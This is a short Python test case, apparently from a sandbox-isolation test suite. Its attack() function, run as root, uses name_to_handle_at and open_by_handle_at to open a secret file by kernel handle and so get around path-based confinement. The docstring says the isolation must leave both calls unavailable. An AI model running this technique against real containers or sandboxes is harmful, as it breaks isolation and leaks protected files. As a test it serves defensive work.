"""Asks the kernel for a file handle and opens that, which looks at no path.

Must hold: neither of the two calls is there, for root either."""

import ctypes
import os

import target
import tools

GOAL = "leak"
HELD_FROM = "isolated"
ROOT = True


def attack():
    handle, mount = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(132), 136), ctypes.c_int()
    tools.syscall("name_to_handle_at", -100, target.secret_file.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(target.folder, os.O_RDONLY)
    return os.read(tools.syscall("open_by_handle_at", folder, handle, os.O_RDONLY), 1000)
